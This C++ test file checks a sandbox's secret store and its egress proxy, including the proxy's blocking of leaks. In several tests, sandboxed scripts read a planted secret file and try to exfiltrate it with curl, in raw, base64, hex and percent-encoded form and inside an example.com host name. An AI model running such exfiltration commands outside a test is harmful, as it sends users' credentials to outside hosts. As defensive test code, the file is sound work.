// End-to-end tests of `chitin secrets` and of secrets granted to sandboxed commands: the store
// from the command line (stdin only, never argv; wrong passphrase; damage), and a sandboxed
// script that uses a secret through the egress proxy while seeing only its placeholder, over
// plain HTTP and over HTTPS (intercepted with the installation's local CA). The value must
// appear nowhere: not in the script's environment or output, not in any file of the state
// directory, not in the audit log.

#include <dirent.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <atomic>
#include <chrono>
#include <fstream>
#include <sstream>
#include <thread>

#include <nlohmann/json.hpp>

#include "base/child_process.h"
#include "base/encoding.h"
#include "support/chitin_cli.h"
#include "support/http_server.h"
#include "support/temp_dir.h"
#include "support/tls_http_server.h"

namespace chitin {
namespace {

using chitin::testing::read_text;
using chitin::testing::TempDir;
using chitin::testing::write_text;

const std::string kValue = "sk-test-Q7f3LmZx9Kp2Wd8Rt5Yb";

class SecretsCliTest : public ::testing::Test {
 protected:
  CapturedRun chitin(const std::vector<std::string>& args, const std::string& input = {},
                     std::vector<std::string> env = {}) {
    chitin::testing::ChitinCli cli{CHITIN_BINARY, dir_.file("state"), dir_.path(), workspace()};
    env.insert(env.end(), extra_env_.begin(), extra_env_.end());
    CapturedRun run = cli.run(args, env, input);
    outputs_ += run.out + run.err;
    return run;
  }
  std::string workspace() const { return dir_.file("ws"); }
  void SetUp() override {
    ASSERT_EQ(::mkdir(workspace().c_str(), 0755), 0);
    ASSERT_EQ(chitin({"init"}).status.code, 0);
  }
  // Every byte of every file under `path` (the encrypted store holds the value, sealed).
  static void collect(const std::string& path, std::string& out) {
    DIR* dir = ::opendir(path.c_str());
    if (dir == nullptr) {
      std::ifstream file(path, std::ios::binary);
      std::stringstream text;
      text << file.rdbuf();
      out += text.str();
      return;
    }
    while (const dirent* entry = ::readdir(dir)) {
      const std::string name = entry->d_name;
      if (name != "." && name != "..") {
        collect(path + "/" + name, out);
      }
    }
    ::closedir(dir);
  }
  // The value, and its common encodings, appear in no output and no file.
  void expect_value_nowhere(const std::string& value) {
    std::string everything = outputs_;
    collect(dir_.file("state"), everything);
    collect(workspace(), everything);
    for (const std::string& form :
         {value, base64_encode(as_bytes(value)), hex_encode(as_bytes(value))}) {
      EXPECT_EQ(everything.find(form), std::string::npos) << "found " << form;
    }
  }

  TempDir dir_;
  std::vector<std::string> extra_env_;
  std::string outputs_;
};

TEST_F(SecretsCliTest, ValuesComeFromStdinNeverArgvAndAreNeverListed) {
  // (A throw-away value: no test puts a stored value into any process's argv.)
  auto in_argv = chitin({"secrets", "set", "openai", "sk-typed-into-argv-0000"});
  EXPECT_EQ(in_argv.status.code, 2);
  EXPECT_NE(in_argv.err.find("on the command line is refused"), std::string::npos);
  EXPECT_EQ(in_argv.err.find("sk-typed"), std::string::npos);  // not even echoed in the error
  auto set = chitin({"secrets", "set", "openai", "--hosts", "api.openai.com", "--header",
                     "Authorization", "--format", "Bearer {}"},
                    kValue + "\n");
  ASSERT_EQ(set.status.code, 0) << set.err;
  for (const auto& [args, why] : std::vector<std::pair<std::vector<std::string>, std::string>>{
           {{"secrets", "set", "Bad/Name"}, "is not valid"},
           {{"secrets", "set", "x", "--hosts", "*.example.com"}, "not wildcards"},
           {{"secrets", "set", "x", "--format", "Bearer"}, "exactly once"}}) {
    auto bad = chitin(args, kValue);
    EXPECT_EQ(bad.status.code, 2) << why;
    EXPECT_NE(bad.err.find(why), std::string::npos) << bad.err;
  }
  EXPECT_NE(chitin({"secrets", "set", "short"}, "1234").err.find("at least 8"), std::string::npos);
  auto list = chitin({"secrets", "list", "--json"});
  ASSERT_EQ(list.status.code, 0) << list.err;
  const auto secrets = nlohmann::json::parse(list.out);
  ASSERT_EQ(secrets.size(), 1U);
  EXPECT_EQ(secrets[0]["name"], "openai");
  EXPECT_EQ(secrets[0]["hosts"][0], "api.openai.com");
  EXPECT_EQ(secrets[0]["placeholder"], "chitin-secret://openai");
  EXPECT_EQ(secrets[0]["last_used"], 0);
  EXPECT_EQ(chitin({"secrets", "rm", "nothing"}).status.code, 2);
  EXPECT_EQ(chitin({"secrets", "rm", "openai"}).status.code, 0);
  EXPECT_EQ(chitin({"secrets", "list", "--json"}).out, "[]\n");
  auto trail = chitin({"audit", "tail", "--type", "secret", "--json", "-n", "10"});
  EXPECT_NE(trail.out.find("secret.set"), std::string::npos);
  EXPECT_NE(trail.out.find("secret.remove"), std::string::npos);
  expect_value_nowhere(kValue);
}

TEST_F(SecretsCliTest, OpenClawSecretRefsAreImported) {
  write_text(dir_.file("secrets.json"),
             R"({"providers":{"openai":{"apiKey":")" + kValue + R"("}}})");
  auto file = chitin({"secrets", "import", "openai", "--hosts", "api.openai.com", "--ref",
                      R"({"source":"file","provider":"filemain","id":"/providers/openai/apiKey"})",
                      "--file", dir_.file("secrets.json")});
  EXPECT_EQ(file.status.code, 0) << file.err;
  auto env = chitin({"secrets", "import", "github", "--ref",
                     R"({"source":"env","provider":"default","id":"GH_TOKEN"})"},
                    "", {"GH_TOKEN=ghp_0123456789abcdefghij"});
  EXPECT_EQ(env.status.code, 0) << env.err;
  auto exec = chitin(
      {"secrets", "import", "x", "--ref", R"({"source":"exec","provider":"vault","id":"x"})"});
  EXPECT_EQ(exec.status.code, 2);
  EXPECT_EQ(nlohmann::json::parse(chitin({"secrets", "list", "--json"}).out).size(), 2U);
}

TEST_F(SecretsCliTest, WrongPassphraseAndDamageFailCleanlyWithoutLosingData) {
  // A second installation protected by a passphrase.
  TempDir other;
  chitin::testing::ChitinCli cli{CHITIN_BINARY, other.file("state"), other.path(), workspace()};
  ASSERT_EQ(cli.run({"init"}, {"CHITIN_PASSPHRASE=correct horse"}).status.code, 0);
  ASSERT_EQ(cli.run({"secrets", "set", "openai"}, {"CHITIN_PASSPHRASE=correct horse"}, kValue)
                .status.code,
            0);
  auto wrong = cli.run({"secrets", "list"}, {"CHITIN_PASSPHRASE=battery staple"});
  EXPECT_EQ(wrong.status.code, 1);
  EXPECT_NE(wrong.err.find("wrong passphrase"), std::string::npos) << wrong.err;
  auto wrong_set = cli.run({"secrets", "set", "two"}, {"CHITIN_PASSPHRASE=battery"}, kValue);
  EXPECT_NE(wrong_set.status.code, 0);
  EXPECT_NE(cli.run({"secrets", "list"}, {"CHITIN_PASSPHRASE=correct horse"}).out.find("openai"),
            std::string::npos);
  // A run without grants does not stop to ask for the passphrase (it cannot scan without it).
  EXPECT_EQ(cli.run({"sandbox", "run", "--", "/bin/true"}).status.code, 0);
  // With a wrong one set, it fails closed.
  EXPECT_NE(
      cli.run({"sandbox", "run", "--", "/bin/true"}, {"CHITIN_PASSPHRASE=battery"}).status.code, 0);

  // Damage: reported, nothing written, and the backup holds the previous version.
  ASSERT_EQ(chitin({"secrets", "set", "one"}, kValue).status.code, 0);
  ASSERT_EQ(chitin({"secrets", "set", "two"}, kValue + "2").status.code, 0);
  const std::string store = dir_.file("state/secrets/store");
  std::string bytes = read_text(store);
  bytes[bytes.size() / 2] ^= 0x20;
  write_text(store, bytes);
  auto damaged = chitin({"secrets", "list"});
  EXPECT_EQ(damaged.status.code, 1);
  EXPECT_NE(damaged.err.find("store.bak"), std::string::npos) << damaged.err;
  EXPECT_NE(chitin({"secrets", "set", "three"}, kValue).status.code, 0);
  EXPECT_EQ(read_text(store), bytes);
  write_text(store, read_text(dir_.file("state/secrets/store.bak")));
  EXPECT_NE(chitin({"secrets", "list"}).out.find("one"), std::string::npos);
}

TEST_F(SecretsCliTest, GrantsAreCheckedBeforeAnythingRuns) {
  ASSERT_EQ(chitin({"secrets", "set", "PATH", "--hosts", "api.example.com"}, kValue).status.code,
            0);
  ASSERT_EQ(chitin({"secrets", "set", "nohost"}, kValue).status.code, 0);
  for (const auto& [name, why] :
       std::vector<std::pair<std::string, std::string>>{{"PATH", "reserved for the run"},
                                                        {"nohost", "bound to no host"},
                                                        {"missing", "no such secret"}}) {
    auto run = chitin(
        {"sandbox", "run", "--secret", name, "--", "/bin/sh", "-c", "echo ran > /workspace/ran"});
    EXPECT_EQ(run.status.code, 2) << name << run.err;
    EXPECT_NE(run.err.find(why), std::string::npos) << run.err;
  }
  struct stat st {};
  EXPECT_NE(::stat((workspace() + "/ran").c_str(), &st), 0);  // nothing ran

  // The state directory (keys, the encrypted store) is never visible in a sandbox: not as or
  // under the workspace, not as an extra path.
  for (const std::vector<std::string>& where :
       {std::vector<std::string>{"--workspace", dir_.path()},
        std::vector<std::string>{"--ro", dir_.file("state/keys")},
        std::vector<std::string>{"--rw", dir_.path()}}) {
    std::vector<std::string> args = {"sandbox", "run"};
    args.insert(args.end(), where.begin(), where.end());
    args.insert(args.end(), {"--", "/bin/true"});
    auto run = chitin(args);
    EXPECT_EQ(run.status.code, 2) << where[1];
    EXPECT_NE(run.err.find("overlaps the state directory"), std::string::npos) << run.err;
  }
}

// The pids whose command line or environment contains `value`.
std::string processes_holding(const std::string& value) {
  std::string found;
  DIR* proc = ::opendir("/proc");
  while (const dirent* entry = ::readdir(proc)) {
    const std::string pid = entry->d_name;
    if (pid.find_first_not_of("0123456789") != std::string::npos) {
      continue;
    }
    for (const char* what : {"/cmdline", "/environ"}) {
      std::ifstream file("/proc/" + pid + what, std::ios::binary);
      std::stringstream text;
      text << file.rdbuf();
      if (text.str().find(value) != std::string::npos) {
        found += pid + what + " ";
      }
    }
  }
  ::closedir(proc);
  return found;
}

// The script of the acceptance test: prints what it can see of the secret, then calls the
// server with the placeholder in a header.
std::string script(const std::string& url) {
  return "echo \"env: $DEMO\"; curl -sS -H \"Authorization: Bearer $DEMO\" " + url +
         "; echo; echo \"exit: $?\"";
}

TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverPlainHttpWithoutSeeingIt) {
  chitin::testing::LoopbackHttpServer bound("bound-ok");
  chitin::testing::LoopbackHttpServer unbound("unbound-ok");
  const std::string bound_host = "127.0.0.1:" + std::to_string(bound.port());
  const std::string unbound_host = "127.0.0.1:" + std::to_string(unbound.port());
  ASSERT_EQ(chitin({"secrets", "set", "demo", "--hosts", bound_host}, kValue).status.code, 0);

  // While the run is in flight, no process on the machine has the value in its argv or its
  // environment (the sandboxed ones included: they are visible from here).
  CapturedRun run;
  std::atomic<bool> done{false};
  std::thread runner([&] {
    run = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
                  script("http://" + bound_host + "/v1/models") + "; sleep 1"});
    done = true;
  });
  int scans = 0;
  bool saw_the_run = false;  // the scan does see the run's processes
  while (!done) {
    EXPECT_EQ(processes_holding(kValue), "");
    saw_the_run = saw_the_run || !processes_holding("CHITIN_HOME=" + dir_.file("state")).empty();
    ++scans;
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  runner.join();
  EXPECT_GT(scans, 10);
  EXPECT_TRUE(saw_the_run);
  ASSERT_EQ(run.status.code, 0) << run.err;
  EXPECT_NE(run.out.find("env: chitin-secret://demo"), std::string::npos) << run.out;
  EXPECT_NE(run.out.find("bound-ok"), std::string::npos) << run.out;
  EXPECT_NE(bound.last_request().find("Authorization: Bearer " + kValue), std::string::npos)
      << bound.last_request();

  // The placeholder to a host the secret is not bound to: refused before connecting.
  auto other = chitin({"sandbox", "run", "--secret", "demo", "--allow-host", unbound_host, "--",
                       "/bin/sh", "-c", script("http://" + unbound_host + "/")});
  EXPECT_NE(other.out.find("blocked: the placeholder of secret 'demo' was sent to " + unbound_host),
            std::string::npos)
      << other.out;
  EXPECT_EQ(unbound.last_request(), "");
  // Without the grant, the placeholder goes nowhere either.
  auto ungranted = chitin({"sandbox", "run", "--allow-host", bound_host, "--", "/bin/sh", "-c",
                           "curl -sS -H 'X-Key: chitin-secret://demo' http://" + bound_host + "/"});
  EXPECT_NE(ungranted.out.find("not granted"), std::string::npos) << ungranted.out;

  // The value itself, however encoded, is refused on the way out: a script that found it in
  // a file (never in any process's argv, not even in this test).
  write_text(workspace() + "/found.txt", kValue);
  const std::string url = "http://" + bound_host + "/";
  for (const auto& [command, how] : std::vector<std::pair<std::string, std::string>>{
           {"curl -sS --data-binary @found.txt " + url, "(raw)"},
           {"curl -sS -H \"Authorization: Basic $(printf 'user:%s' \"$(cat found.txt)\" | "
            "base64 -w0)\" " +
                url,
            "(base64)"},
           {"curl -sS \"" + url + "?q=$(od -An -tx1 found.txt | tr -d ' \\n')\"", "(hex)"},
           {"curl -sS \"" + url + "?q=$(sed 's/-/%2D/g' found.txt)\"", "(percent)"},
           {"curl -sS --connect-timeout 5 \"http://$(cat found.txt).example.com/\"",
            "was in the host name"},
           {"curl -sS -d 'AKIAIOSFODNN7EXAMPLE' " + url,
            "secret-shaped string (SECRET_AWS_ACCESS_KEY_ID)"}}) {
    auto leak = chitin({"sandbox", "run", "--allow-host", bound_host, "--allow-host",
                        "*.example.com", "--", "/bin/sh", "-c", command});
    EXPECT_NE(leak.out.find("chitin egress: blocked:"), std::string::npos) << command << leak.out;
    EXPECT_NE(leak.out.find(how), std::string::npos) << how << ": " << leak.out << leak.err;
  }
  ASSERT_EQ(::unlink((workspace() + "/found.txt").c_str()), 0);
  auto trail = chitin({"audit", "tail", "--type", "secret", "--json", "-n", "50"});
  EXPECT_NE(trail.out.find("\"type\":\"secret.use\""), std::string::npos);
  EXPECT_NE(trail.out.find("\"type\":\"secret.leak_blocked\""), std::string::npos);
  const auto listed = nlohmann::json::parse(chitin({"secrets", "list", "--json"}).out);
  EXPECT_GT(listed[0]["last_used"].get<std::int64_t>(), 0);
  expect_value_nowhere(kValue);
}

TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverHttpsThroughTheLocalCa) {
  TempDir server_dir;
  chitin::testing::TlsHttpServer echo(server_dir.path(), "", true);
  const std::string host = "127.0.0.1:" + std::to_string(echo.port());
  // The proxy verifies the server against the test CA; the sandbox trusts only Chitin's.
  extra_env_ = {"SSL_CERT_FILE=" + echo.ca_file()};
  ASSERT_EQ(chitin({"secrets", "set", "demo", "--hosts", host, "--header", "Authorization",
                    "--format", "Bearer {}"},
                   kValue)
                .status.code,
            0);
  // Header-only injection: the script sends no credential at all.
  auto run = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
                     "echo \"env: $DEMO\"; curl -sS https://" + host + "/v1/models"});
  ASSERT_EQ(run.status.code, 0) << run.err << run.out;
  EXPECT_NE(run.out.find("env: chitin-secret://demo"), std::string::npos) << run.out;
  EXPECT_NE(echo.last_request().find("Authorization: Bearer " + kValue), std::string::npos)
      << echo.last_request();
  // The server echoed the request (and so the key); the script got it masked.
  EXPECT_NE(run.out.find("Authorization: Bearer ****"), std::string::npos) << run.out;

  // A script that found the value and sends it, encoded, over HTTPS: the tunnel is
  // intercepted, so the request is read and refused before the server sees anything.
  const int before = echo.requests();
  write_text(workspace() + "/found.txt", kValue);
  auto leak = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
                      "curl -sS -d \"x=$(base64 -w0 found.txt)\" https://" + host + "/"});
  ASSERT_EQ(::unlink((workspace() + "/found.txt").c_str()), 0);
  EXPECT_NE(leak.out.find("blocked: the value of secret 'demo' (base64)"), std::string::npos)
      << leak.out << leak.err;
  EXPECT_EQ(echo.requests(), before);
  expect_value_nowhere(kValue);
}

}  // namespace
}  // namespace chitin
